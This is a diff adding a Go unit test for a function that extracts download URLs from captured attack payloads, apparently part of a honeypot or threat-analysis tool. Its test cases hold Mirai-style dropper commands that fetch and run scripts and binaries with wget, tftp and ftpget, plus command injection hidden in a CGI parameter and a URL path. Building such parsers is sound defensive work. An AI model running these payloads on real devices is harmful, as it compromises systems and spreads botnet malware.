@@ -0,0 +1,48 @@
+package downloader
+
+import (
+	"testing"
+
+	"github.com/stretchr/testify/require"
+)
+
+func TestExtractURLs(t *testing.T) {
+	for _, tc := range []struct {
+		payload string
+		urls    []string
+	}{
+		{
+			payload: "cd /tmp || cd /var/run; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
+			urls:    []string{"http://192.0.2.1/bins.sh"},
+		},
+		{
+			payload: "/bin/busybox wget 192.0.2.1/mips -O /tmp/.x && curl -s -o x.sh example.com/x.sh",
+			urls:    []string{"http://192.0.2.1/mips", "http://example.com/x.sh"},
+		},
+		{
+			payload: "curl -fsSL https://example.com/install.sh | sh",
+			urls:    []string{"https://example.com/install.sh"},
+		},
+		{
+			payload: "tftp -g -r mirai.arm 192.0.2.1 69; tftp 192.0.2.2 -c get a.sh; tftp -i 192.0.2.3 GET b.exe",
+			urls:    []string{"tftp://192.0.2.1:69/mirai.arm", "tftp://192.0.2.2/a.sh", "tftp://192.0.2.3/b.exe"},
+		},
+		{
+			payload: "ftpget -v -u anonymous -p x 192.0.2.1 bot.sh pub/bot.sh; ftpget 192.0.2.2 y.sh",
+			urls:    []string{"ftp://anonymous:x@192.0.2.1/pub/bot.sh", "ftp://192.0.2.2/y.sh"},
+		},
+		{
+			payload: "POST /cgi-bin/ViewLog.asp\n\nremote_submit_Flag=1&remote_host=%3Bcd+%2Ftmp%3Bwget+http%3A%2F%2F192.0.2.1%2Fx.sh%3B",
+			urls:    []string{"http://192.0.2.1/x.sh"},
+		},
+		{
+			payload: "GET /shell?cd${IFS}/tmp;wget${IFS}198.51.100.1/arm7;chmod${IFS}777${IFS}arm7",
+			urls:    []string{"http://198.51.100.1/arm7"},
+		},
+		{
+			payload: "wget: missing URL\r\nls -la /tmp; cat /proc/cpuinfo",
+		},
+	} {
+		require.Equal(t, tc.urls, ExtractURLs([]byte(tc.payload)), tc.payload)
+	}
+}